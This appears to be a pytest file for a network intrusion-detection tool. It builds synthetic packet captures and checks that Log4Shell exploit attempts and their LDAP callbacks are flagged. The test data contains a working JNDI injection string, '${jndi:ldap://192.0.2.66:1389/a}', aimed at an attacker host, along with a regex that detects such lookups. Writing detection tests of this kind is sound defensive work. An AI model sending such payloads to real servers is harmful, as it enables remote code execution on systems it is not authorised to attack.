"""Log4Shell callbacks that connect, are refused or get no answer, end to end through `wardwatch analyze`.

Captures are written here with dpkt: an attacker's HTTP request carrying a
JNDI lookup, then the attacked server's TCP connection attempt to the host
and port the lookup names. Facts about the shared capture come from dpkt.
"""

import re
import socket

import dpkt
import pytest

from analysis import analyze_alerts
from engine.policy.exploits import Log4ShellCallbacks

ATTACKER_IP, SERVER_IP = "192.0.2.66", "10.1.0.80"
ATTACKER_PORT, SERVER_PORT = 43000, 8080
CALLBACK_PORT = 1389  # the port the lookup names; the server connects from CALLBACK_SOURCE_PORT
CALLBACK_SOURCE_PORT = 39000
START_S = 1_700_000_000.0
BODY = b'{"user":"${jndi:ldap://192.0.2.66:1389/a}"}'
REQUEST = (b"POST /login HTTP/1.1\r\nHost: 10.1.0.80:8080\r\nContent-Type: application/json\r\n"
           b"Content-Length: " + str(len(BODY)).encode() + b"\r\n\r\n" + BODY)
RESPONSE = b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"
# An LDAP bindRequest (version 3, anonymous), the first bytes a callback sends.
LDAP_BIND = bytes.fromhex("300c020101600702010304008000")

SYN, ACK, PSH, FIN, RST = dpkt.tcp.TH_SYN, dpkt.tcp.TH_ACK, dpkt.tcp.TH_PUSH, dpkt.tcp.TH_FIN, dpkt.tcp.TH_RST


class CaptureWriter:
    """Collect TCP segments between two hosts as (time, frame) records."""

    def __init__(self):
        self.records = []

    def segment(self, ts_s, src, dst, sport, dport, flags, seq, ack=0, payload=b""):
        tcp = dpkt.tcp.TCP(sport=sport, dport=dport, seq=seq, ack=ack, flags=flags, win=64240, data=payload)
        ip = dpkt.ip.IP(src=socket.inet_aton(src), dst=socket.inet_aton(dst), p=dpkt.ip.IP_PROTO_TCP, ttl=64,
                        data=tcp)
        ip.len = 20 + len(bytes(tcp))
        frame = dpkt.ethernet.Ethernet(src=b"\x02\x00\x00\x00\x00\x01", dst=b"\x02\x00\x00\x00\x00\x02",
                                       type=dpkt.ethernet.ETH_TYPE_IP, data=ip)
        self.records.append((ts_s, bytes(frame)))

    def write(self, path):
        with open(path, "wb") as handle:
            writer = dpkt.pcap.Writer(handle)
            for ts_s, frame in sorted(self.records, key=lambda record: record[0]):
                writer.writepkt(frame, ts=ts_s)
        return path


def request_session(capture, close_at_s):
    """Add the attacker's HTTP request to the server, whose response and close start at close_at_s."""
    a, s = ATTACKER_IP, SERVER_IP
    ap, sp = ATTACKER_PORT, SERVER_PORT
    capture.segment(START_S, a, s, ap, sp, SYN, 1000)
    capture.segment(START_S + 0.001, s, a, sp, ap, SYN | ACK, 5000, 1001)
    capture.segment(START_S + 0.002, a, s, ap, sp, ACK, 1001, 5001)
    capture.segment(START_S + 0.003, a, s, ap, sp, PSH | ACK, 1001, 5001, REQUEST)
    after_request = 1001 + len(REQUEST)
    capture.segment(close_at_s, s, a, sp, ap, PSH | ACK, 5001, after_request, RESPONSE)
    after_response = 5001 + len(RESPONSE)
    capture.segment(close_at_s + 0.001, a, s, ap, sp, FIN | ACK, after_request, after_response)
    capture.segment(close_at_s + 0.002, s, a, sp, ap, FIN | ACK, after_response, after_request + 1)
    capture.segment(close_at_s + 0.003, a, s, ap, sp, ACK, after_request + 1, after_response + 1)


def callback(capture, mode, syn_at_s, port=CALLBACK_PORT):
    """Add the server's connection attempt to the attacker: refused, unanswered or connected."""
    s, a = SERVER_IP, ATTACKER_IP
    sport = CALLBACK_SOURCE_PORT
    capture.segment(syn_at_s, s, a, sport, port, SYN, 100)
    if mode == "refused":
        capture.segment(syn_at_s + 0.001, a, s, port, sport, RST | ACK, 0, 101)
    elif mode == "unanswered":
        capture.segment(syn_at_s + 1.0, s, a, sport, port, SYN, 100)  # the retransmission
    elif mode == "connected":
        capture.segment(syn_at_s + 0.001, a, s, port, sport, SYN | ACK, 900, 101)
        capture.segment(syn_at_s + 0.002, s, a, sport, port, ACK, 101, 901)
        capture.segment(syn_at_s + 0.003, s, a, sport, port, PSH | ACK, 101, 901, LDAP_BIND)
        capture.segment(syn_at_s + 0.010, s, a, sport, port, FIN | ACK, 101 + len(LDAP_BIND), 901)
        capture.segment(syn_at_s + 0.011, a, s, port, sport, FIN | ACK, 901, 102 + len(LDAP_BIND))
    elif mode == "connected_silent":
        # Accepted, then closed by the server before either side sent data.
        capture.segment(syn_at_s + 0.001, a, s, port, sport, SYN | ACK, 900, 101)
        capture.segment(syn_at_s + 0.002, s, a, sport, port, ACK, 101, 901)
        capture.segment(syn_at_s + 0.003, s, a, sport, port, FIN | ACK, 101, 901)
        capture.segment(syn_at_s + 0.004, a, s, port, sport, FIN | ACK, 901, 102)
    else:
        raise ValueError(f"invalid callback mode {mode!r}: expected refused, unanswered, connected or connected_silent")


def exploit_alerts(tmp_path, capture):
    alerts = analyze_alerts(tmp_path / "store.db", capture.write(tmp_path / "case.pcap"))
    return [alert for alert in alerts if alert["category"] == "exploit_attempt"]


def critical(alerts):
    return [alert for alert in alerts if alert["severity"] == "critical"]


@pytest.mark.parametrize("mode, outcome", [
    ("refused", "refused"),
    ("unanswered", "unanswered"),
    ("connected", "connected"),
    ("connected_silent", "connected"),
])
def test_callback_after_response(tmp_path, mode, outcome):
    # The request's flow ends before the callback starts.
    capture = CaptureWriter()
    request_session(capture, close_at_s=START_S + 0.004)
    callback(capture, mode, syn_at_s=START_S + 0.050)
    alerts = exploit_alerts(tmp_path, capture)
    assert [alert["severity"] for alert in alerts].count("high") == 1
    (success,) = critical(alerts)
    assert success["src"]["ip"] == SERVER_IP
    assert success["dst"]["ip"] == ATTACKER_IP
    assert success["dst"]["port"] == CALLBACK_PORT
    assert success["evidence"]["callback_outcome"] == outcome
    assert success["evidence"]["attempt_src_ip"] == ATTACKER_IP
    # The delay runs from the request flow's first packet to the callback's.
    assert success["evidence"]["callback_delay_s"] == pytest.approx(0.050, abs=0.001)


@pytest.mark.parametrize("mode, phrase", [
    ("refused", "refused the connection"),
    ("unanswered", "did not answer"),
])
def test_callback_while_request_open(tmp_path, mode, phrase):
    # As a vulnerable server does it: the lookup runs while the request
    # waits, so the callback ends before the request's flow does.
    capture = CaptureWriter()
    callback(capture, mode, syn_at_s=START_S + 0.050)
    request_session(capture, close_at_s=START_S + 2.0)
    (success,) = critical(exploit_alerts(tmp_path, capture))
    assert success["evidence"]["callback_outcome"] == mode
    assert "succeeded" in success["summary"]
    assert phrase in success["summary"]


def test_attempt_to_other_port_not_linked(tmp_path):
    capture = CaptureWriter()
    request_session(capture, close_at_s=START_S + 0.004)
    callback(capture, "refused", syn_at_s=START_S + 0.050, port=CALLBACK_PORT + 1)
    alerts = exploit_alerts(tmp_path, capture)
    assert len(alerts) == 1
    assert critical(alerts) == []


def test_attempt_outside_window_not_linked(tmp_path):
    capture = CaptureWriter()
    request_session(capture, close_at_s=START_S + 0.004)
    callback(capture, "refused", syn_at_s=START_S + Log4ShellCallbacks().window_s + 5.0)
    assert critical(exploit_alerts(tmp_path, capture)) == []


def test_midstream_flow_not_linked(tmp_path):
    # An ACK and RST without the server's SYN do not show that the server
    # opened the connection.
    capture = CaptureWriter()
    request_session(capture, close_at_s=START_S + 0.004)
    capture.segment(START_S + 0.050, SERVER_IP, ATTACKER_IP, CALLBACK_SOURCE_PORT, CALLBACK_PORT, ACK, 100, 900)
    capture.segment(START_S + 0.051, ATTACKER_IP, SERVER_IP, CALLBACK_PORT, CALLBACK_SOURCE_PORT, RST, 900)
    assert critical(exploit_alerts(tmp_path, capture)) == []


# --- shared capture -------------------------------------------------------------

LOOKUP_PATTERN = re.compile(rb"jndi:ldap://(\d+\.\d+\.\d+\.\d+)(?::(\d+))?")
LDAP_DEFAULT_PORT = 389


def refused_callbacks(path):
    """Return {(server, host, port)} for SYNs to a host named in an LDAP lookup that got an RST back.

    A server is the responder of a TCP flow that received a lookup. The SYN
    must come from it and go to the lookup's host and port.
    """
    lookups, syns, resets = set(), set(), set()
    with open(path, "rb") as handle:
        for _, buf in dpkt.pcap.Reader(handle):
            ip = dpkt.ethernet.Ethernet(buf).data
            if not isinstance(ip, dpkt.ip.IP) or not isinstance(ip.data, dpkt.tcp.TCP):
                continue
            tcp, src, dst = ip.data, socket.inet_ntoa(ip.src), socket.inet_ntoa(ip.dst)
            for host, port in LOOKUP_PATTERN.findall(tcp.data):
                lookups.add((dst, host.decode(), int(port) if port else LDAP_DEFAULT_PORT))
            if tcp.flags & (SYN | ACK) == SYN:
                syns.add((src, dst, tcp.dport))
            if tcp.flags & RST:
                resets.add((dst, src, tcp.sport))
    return lookups & syns & resets


def test_log4j_capture_refused_callback(shared_pcaps, tmp_path):
    path = shared_pcaps / "cl-log4j-attack.pcap"
    expected = refused_callbacks(path)
    assert len(expected) == 1
    alerts = analyze_alerts(tmp_path / "store.db", path)
    refused = {(a["src"]["ip"], a["dst"]["ip"], a["dst"]["port"]) for a in critical(alerts)
               if a["evidence"]["callback_outcome"] == "refused"}
    assert refused == expected
    assert [a["evidence"]["callback_outcome"] for a in critical(alerts)].count("connected") == 1
